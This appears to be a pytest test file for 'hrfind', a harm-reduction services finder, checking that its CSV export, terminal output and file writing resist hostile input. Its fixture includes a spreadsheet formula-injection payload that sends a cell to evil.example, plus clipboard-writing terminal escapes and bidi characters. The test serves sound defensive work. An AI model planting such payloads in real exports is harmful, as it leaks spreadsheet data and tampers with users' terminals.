"""Issue 14: what hrfind writes to spreadsheets and terminals, the cache it trusts, and the files it replaces."""

import csv
import io
import json
from pathlib import Path

from tests.test_hardening import RAW, toml_string

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for help")'


def formula_directory(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evil.toml").write_text(f"""
[[service]]
id = "evil-van"
name = {toml_string(FORMULA)}
summary = "@SUM(1+1) and \\u001b]52;c;cHduZWQ=\\u0007 \\u202eevil"
phone = "+1 410 555 0142"
access = ["phone"]
coverage = ["US-MD"]
""")
    return folder


def test_csv_export_and_hsds_csv_never_start_a_formula(cli, tmp_path):
    data = formula_directory(tmp_path / "data")
    assert cli("--data", data, "--no-bundled", "export", "--format", "csv", "-o", tmp_path / "all.csv").exit_code == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "all.csv").read_text())))
    (van,) = [r for r in rows if r["id"] == "evil-van"]
    assert van["name"] == "'" + FORMULA and van["phone"] == "'+1 410 555 0142" and van["summary"].startswith("'@SUM")
    assert "\x1b]52" in van["summary"]  # a data file keeps the data as given
    assert cli("--data", data, "--no-bundled", "export", "--format", "hsds", "-o", tmp_path / "package").exit_code == 0
    for table in (tmp_path / "package").glob("*.csv"):
        for row in csv.reader(io.StringIO(table.read_text())):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (table.name, row)
    # And back: the importer reads the quoted cells as the values they were.
    assert cli("import", "hsds", tmp_path / "package", "-o", tmp_path / "back.toml").exit_code == 0
    (back,) = json.loads(cli("--data", tmp_path / "back.toml", "show", "evil-van", "--json").stdout)
    assert back["name"] == FORMULA and back["phone"] == "+1 410 555 0142"


def test_csv_on_a_terminal_carries_no_escapes(cli, tmp_path):
    data = formula_directory(tmp_path / "data")
    result = cli("--data", data, "--no-bundled", "export", "--format", "csv", tty=True)
    assert result.exit_code == 0 and "evil-van" in result.stdout
    assert not RAW.search(result.stdout.replace("\n", "")), RAW.findall(result.stdout)


def test_info_plain_carries_no_escapes(cli, tmp_path):
    folder = tmp_path / "odd \x1b]52;c;cHduZWQ=\x07 \u202e\tname"
    formula_directory(folder)
    result = cli("--data", folder, "info", "--plain")
    assert result.exit_code == 0
    for line in result.stdout.splitlines():
        assert not RAW.search(line), line
    layer = [line for line in result.stdout.splitlines() if line.startswith("layer\t--data")]
    assert len(layer) == 1 and len(layer[0].split("\t")) == 5  # the tab in the folder name is a space


def test_the_human_view_shows_no_invisible_characters(cli, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    name = "Harbor\u200b Van\u200f \u2066x\u2069 line\u2028two\ufeff"
    (data / "van.toml").write_text(f'[[service]]\nid = "zw-van"\nname = {toml_string(name)}\nsummary = "S"\n')
    result = cli("--data", data, "show", "zw-van", tty=True, env={"COLUMNS": "100"})
    assert result.exit_code == 0 and "Harbor Van" in result.stdout
    assert not any(c in result.stdout for c in "\u200b\u200f\u2066\u2069\u2028\ufeff")


# --- data files: any bytes in a name, deep nesting, FIFOs and devices (items 5, 6, 7) --------------

import contextlib  # noqa: E402
import os  # noqa: E402
import stat  # noqa: E402
import threading  # noqa: E402

import pytest  # noqa: E402
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from hrfind import catalog, files  # noqa: E402
from tests.test_hardening import GOOD, answers_despite  # noqa: E402

NAME_BYTES = st.binary(min_size=1, max_size=12).filter(lambda b: b"/" not in b and b"\x00" not in b and b not in (b".", b".."))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=NAME_BYTES)
def test_any_bytes_in_a_folder_or_file_name(cli, tmp_path_factory, name):
    root = tmp_path_factory.mktemp("names")
    folder = root / os.fsdecode(b"d" + name)
    folder.mkdir()
    (folder / os.fsdecode(b"f" + name + b".toml")).write_text(GOOD + '\n[[strategy]]\nid = "Bad Id"\ntitle = "t"\nsummary = "s"\n')
    for args in (["search", "zebra", "--json"], ["search", "zebra", "--plain"], ["show", "good-tip"], ["info", "--json"], ["info"]):
        result = cli("--data", root, *args, tty=args[-1] in ("good-tip", "info"))
        assert result.exit_code == 0, (args, result.stderr)
        assert "internal error" not in result.stderr
    (tip,) = json.loads(cli("--data", root, "show", "good-tip", "--json").stdout)
    assert tip["origin"].startswith(str(root))
    checked = cli("validate", root)
    assert checked.exit_code == 3 and '"Bad Id": id: expected lowercase-kebab' in checked.stdout


@pytest.mark.parametrize("depth", [400, 1000, 100_000])
def test_deeply_nested_toml_skips_the_file(cli, tmp_path, depth):
    (tmp_path / "good.toml").write_text(GOOD)
    (tmp_path / "deep.toml").write_text('[[strategy]]\nid = "deep"\ntitle = "t"\nsummary = "s"\nsteps = ' + "[" * depth + "]" * depth + "\n")
    result = cli("search", "zebra", "--json", "--data", tmp_path)
    assert result.exit_code == 0 and [hit["id"] for hit in json.loads(result.stdout)] == ["good-tip"]
    assert "deep.toml" in result.stderr
    assert cli("validate", tmp_path).exit_code == 3


@contextlib.contextmanager
def planted_fifo(path: Path, content: bytes):
    """A FIFO at `path` with a writer waiting: yields an Event set once anything opened it to read.

    A reader that opens it gets `content` and an end, rather than waiting forever, so code that
    should not open it fails the test instead of hanging it. A hard link lets the writer go at the
    end even when the run replaced the FIFO.
    """
    os.mkfifo(path)
    handle = path.parent.parent / f".{path.name}.{os.getpid()}.fifo"
    os.link(path, handle)
    opened = threading.Event()

    def write():
        try:
            with open(handle, "wb") as pipe:
                opened.set()
                pipe.write(content)
        except BrokenPipeError:  # released below without reading
            pass

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    try:
        yield opened
    finally:
        was_opened = opened.is_set()
        os.close(os.open(handle, os.O_RDONLY | os.O_NONBLOCK))  # lets the writer finish
        writer.join()
        handle.unlink()
        if not was_opened:
            opened.clear()


def test_a_fifo_named_toml_is_skipped(cli, tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "good.toml").write_text(GOOD)
    with planted_fifo(tmp_path / "d" / "pipe.toml", GOOD.replace("good-tip", "piped-tip").encode()) as opened:
        result = cli("search", "zebra", "--json", "--data", tmp_path / "d")
    assert not opened.is_set()
    assert result.exit_code == 0 and [hit["id"] for hit in json.loads(result.stdout)] == ["good-tip"]
    assert "pipe.toml: cannot read this file (it is a named pipe, not a regular file); skipped" in result.stderr


def test_a_link_to_a_device_named_toml_is_skipped(cli, tmp_path):
    (tmp_path / "good.toml").write_text(GOOD)
    (tmp_path / "null.toml").symlink_to(os.devnull)  # /dev/zero would never end; /dev/null ends at once
    answers_despite(cli, tmp_path, "null.toml: cannot read this file (it is a device, not a regular file)")


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/null"])
def test_read_regular_refuses_devices_before_reading(path):
    if not os.path.exists(path):
        pytest.skip(f"{path} is not on this system")
    with pytest.raises(files.NotRegularFile, match="a device"):
        files.read_regular(path)


def test_a_utf8_byte_order_mark_is_not_a_syntax_error(tmp_path):
    (tmp_path / "bom.toml").write_bytes(b"\xef\xbb\xbf" + GOOD.encode())
    records, problems = catalog.read_file(tmp_path / "bom.toml", "bom.toml")
    assert [r.id for r in records] == ["good-tip"] and problems == []


# --- the store (items 3 and 14; the rest is in test_store.py) -----------------------------------------


def store_files(home: Path) -> list[Path]:
    return sorted((home / "cache" / "hrfind").glob("*.sqlite"))


def test_overdose_works_with_every_store_a_planted_fifo(cli, isolated, tmp_path, monkeypatch):
    from hrfind.store import files

    monkeypatch.setattr(files, "RACY_NS", -1)  # every file counts as settled, so the store is kept
    data = tmp_path / "mine.toml"
    data.write_text('[[strategy]]\nid = "mine"\ntitle = "Mine"\nsummary = "Mine."\n')
    assert cli("--data", data, "search", "naloxone", "--json").exit_code == 0
    paths = store_files(isolated)
    assert paths, "the run kept a store"
    for path in paths:
        path.unlink()
    with contextlib.ExitStack() as stack:
        opened = [stack.enter_context(planted_fifo(path, b"not a store")) for path in paths]
        overdose = cli("--data", data, "overdose", "--plain")
        search = cli("--data", data, "search", "naloxone", "--json")
        assert not any(event.is_set() for event in opened)
    assert overdose.exit_code == 0 and "911" in overdose.stdout
    assert search.exit_code == 0 and json.loads(search.stdout)[0]["id"] == "naloxone"


# --- where -o may write (items 8, 10 and 13's -o /dev/stdout) --------------------------------------

from hrfind import target  # noqa: E402

SAMPLE = Path(__file__).parent / "fixtures" / "sample.toml"


@pytest.mark.parametrize("args", [["export", "--format", "json"], ["export", "--format", "csv"], ["export", "--format", "hsds"]],
                         ids=lambda a: a[-1])
@pytest.mark.parametrize("device", ["null", "stdout", "fifo", "link"])
def test_o_never_replaces_a_device_a_fifo_or_a_link(cli, tmp_path, args, device):
    # Never the system's own /dev/null or /dev/stdout: as root, code with this bug would replace them.
    if device == "null":
        if os.geteuid() == 0:
            device = tmp_path / "null"
            os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        else:
            device = Path(os.devnull)  # a user cannot replace it, whatever the code does
    elif device == "stdout":
        device = tmp_path / "stdout"
        device.symlink_to("/proc/self/fd/1")  # what /dev/stdout is
    elif device == "fifo":
        device = tmp_path / "fifo"
        os.mkfifo(device)
    else:
        (tmp_path / "real.json").write_text("[]\n")
        device = tmp_path / "link.json"
        device.symlink_to(tmp_path / "real.json")
    before = os.lstat(device)
    for force in ([], ["--force"]):
        result = cli(*args, "-o", device, *force)
        assert result.exit_code == 2, result.stderr
        assert "hrfind replaces only regular files" in result.stderr and "leave out -o" in result.stderr
        assert "not readable" not in result.stderr
    after = os.lstat(device)
    assert (after.st_mode, after.st_ino, after.st_rdev) == (before.st_mode, before.st_ino, before.st_rdev)


def test_o_never_replaces_an_input_of_the_same_run(cli, tmp_path):
    data = tmp_path / "mine.toml"
    data.write_text(SAMPLE.read_text())
    for args in (["export", "--format", "json"], ["export", "--format", "csv"], ["export", "--format", "json", "--force"]):
        result = cli("--data", data, *args, "-o", data)
        assert result.exit_code == 2 and "read by this same run" in result.stderr
    imported = tmp_path / "imported.toml"
    imported.write_text("# Imported by hrfind from x (HSDS 3.0).\n")
    (tmp_path / "export").mkdir()
    (tmp_path / "export" / "services.csv").write_text("id,name\ns1,Harbor Van\n")
    result = cli("--data", imported, "import", "hsds", tmp_path / "export", "-o", imported, "--force")
    assert result.exit_code == 2 and "read by this same run" in result.stderr
    assert data.read_text() == SAMPLE.read_text() and imported.read_text().startswith("# Imported by hrfind from x")


def test_o_replaces_a_file_hrfind_did_not_write_only_with_force(cli, tmp_path):
    notes = tmp_path / "notes.json"
    notes.write_text('{"my": "notes"}\n')
    refused = cli("export", "--format", "json", "-o", notes)
    assert refused.exit_code == 2 and "was not written by hrfind" in refused.stderr and "--force" in refused.stderr
    assert notes.read_text() == '{"my": "notes"}\n'
    assert cli("export", "--format", "json", "-o", notes, "--force").exit_code == 0
    assert json.loads(notes.read_text())[0]["kind"]
    for fmt in ("jsonl", "csv", "geojson", "json"):  # hrfind's own files, any format, are replaced without asking
        assert cli("export", "--format", fmt, "-o", notes).exit_code in (0, 1), fmt  # 1: no located service to map
    toml = tmp_path / "mine.toml"
    toml.write_text(SAMPLE.read_text())
    (tmp_path / "export").mkdir()
    (tmp_path / "export" / "services.csv").write_text("id,name\ns1,Harbor Van\n")
    assert cli("import", "hsds", tmp_path / "export", "-o", toml).exit_code == 2 and toml.read_text() == SAMPLE.read_text()
    assert cli("import", "hsds", tmp_path / "export", "-o", toml, "--force").exit_code == 0
    assert cli("import", "hsds", tmp_path / "export", "-o", toml).exit_code == 0  # now it is hrfind's own


def test_another_systems_hsds_package_is_replaced_only_with_force(cli, shared, tmp_path):
    import shutil

    theirs = tmp_path / "theirs"
    shutil.copytree(shared / "fixtures" / "hsds" / "hsds-3.0-example", theirs)
    before = (theirs / "services.csv").read_bytes()
    refused = cli("export", "--format", "hsds", "-o", theirs)
    assert refused.exit_code == 2 and "did not write" in refused.stderr and (theirs / "services.csv").read_bytes() == before
    assert cli("export", "--format", "hsds", "-o", theirs, "--force").exit_code == 0
    assert cli("export", "--format", "hsds", "-o", theirs).exit_code == 0  # now it is hrfind's own
    zipped = tmp_path / "theirs.zip"
    shutil.make_archive(str(tmp_path / "theirs"), "zip", shared / "fixtures" / "hsds" / "hsds-3.0-example")
    assert cli("export", "--format", "hsds", "-o", zipped).exit_code == 2
    assert cli("export", "--format", "hsds", "-o", zipped, "--force").exit_code == 0
    assert cli("export", "--format", "hsds", "-o", zipped).exit_code == 0


def test_o_in_a_folder_that_cannot_be_written_is_a_usage_error(cli, tmp_path, monkeypatch):
    monkeypatch.setattr(target.os, "access", lambda path, mode: False)  # what a read-only folder says, even to root
    for args in (["export", "--format", "json", "-o", tmp_path / "a.json"], ["export", "--format", "hsds", "-o", tmp_path / "p"],
                 ["export", "--format", "hsds", "-o", tmp_path / "p.zip"]):
        result = cli(*args)
        assert result.exit_code == 2 and "Cannot write in" in result.stderr, result.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes in any folder; the test above simulates it")
def test_o_in_a_read_only_folder(cli, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        result = cli("export", "--format", "json", "-o", locked / "a.json")
    finally:
        locked.chmod(0o700)
    assert result.exit_code == 2 and "Cannot write in" in result.stderr


def test_a_write_that_fails_midway_is_exit_74(cli, tmp_path, monkeypatch):
    import errno

    import hrfind.atomic

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    assert cli("info").exit_code == 0  # the cache is written first, so the failing write is the command's own
    monkeypatch.setattr(hrfind.atomic.os, "fsync", full)
    for args in (["export", "--format", "json", "-o", tmp_path / "a.json"], ["export", "--format", "hsds", "-o", tmp_path / "p.zip"]):
        result = cli(*args)
        assert result.exit_code == 74 and "No space left on device" in result.stderr, result.stderr
    assert list(tmp_path.iterdir()) == []


# --- validation gaps (items 8 and 13) ----------------------------------------------------------------

@pytest.mark.parametrize("when", ["0001-01-01T00:00Z", "9999-12-31T23:59Z", "0001-01-01T00:00", "9999-12-31T23:59+14:00"])
def test_open_at_at_the_ends_of_the_calendar_is_a_usage_error(cli, when):
    result = cli("--data", SAMPLE, "services", "--near", "21201", "--open-at", when)
    assert result.exit_code == 2 and "out of range" in result.stderr, result.stderr


@pytest.mark.parametrize("args", [["services", "--near", "21201", "--open-at", ""], ["services", "--near", "21201", "--open-at", "  "],
                                  ["services", "--near", "21201", "--language", ""], ["services", "--near", "21201", "--offers", ""],
                                  ["search", "naloxone", "--offers", ""]], ids=" ".join)
def test_empty_option_values_are_usage_errors(cli, args):
    result = cli(*args)
    assert result.exit_code == 2 and result.stdout == "", result.stderr


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lat=st.sampled_from(["nan", "inf", "-inf", "1e2", "1E1", "infinity", "NaN", "1_0"]) | st.floats().map(repr),
       lon=st.sampled_from(["nan", "inf", "1e2", "-1e-2"]) | st.floats().map(repr), sep=st.sampled_from([",", " ", ", "]))
def test_number_pairs_are_coordinates_or_a_usage_error(cli, lat, lon, sep):
    result = cli("services", "--near", f"{lat}{sep}{lon}", "--json")
    assert result.exit_code in (0, 1, 2), result.stderr  # never 4 (a place not found): malformed coordinates are exit 2
    assert "internal error" not in result.stderr


def test_a_quoted_date_is_reported(cli, tmp_path):
    (tmp_path / "dates.toml").write_text('[[service]]\nid = "quoted"\nname = "Q"\nverified = "2026-01-01"\n'
                                         '[[strategy]]\nid = "quoted-tip"\ntitle = "T"\nsummary = "S"\nreviewed = "2026-01-01"\n'
                                         '[[service]]\nid = "dated"\nname = "D"\nverified = 2026-01-01\n')
    result = cli("validate", tmp_path)
    assert result.exit_code == 3
    assert 'service[0] "quoted": verified: expected a date (YYYY-MM-DD, unquoted), got "2026-01-01"' in result.stdout
    assert 'strategy[0] "quoted-tip": reviewed: expected a date' in result.stdout
    assert '"dated"' not in result.stdout


def test_an_empty_name_is_reported_once(cli, tmp_path):
    (tmp_path / "empty.toml").write_text('[[service]]\nid = "nameless"\nname = ""\n')
    result = cli("validate", tmp_path)
    assert result.exit_code == 3 and result.stdout.splitlines() == [f'{tmp_path / "empty.toml"}: service[0] "nameless": name: is empty']


def test_a_fifo_or_a_device_given_as_a_layer_is_reported(cli, tmp_path):
    fifo = tmp_path / "layer.toml"
    os.mkfifo(fifo)
    for layer in (fifo, Path(os.devnull)):
        result = cli("--data", layer, "search", "naloxone", "--json")
        assert result.exit_code == 0 and "is neither a regular file nor a folder; skipped" in result.stderr
        assert cli("--data", layer, "validate").exit_code == 3
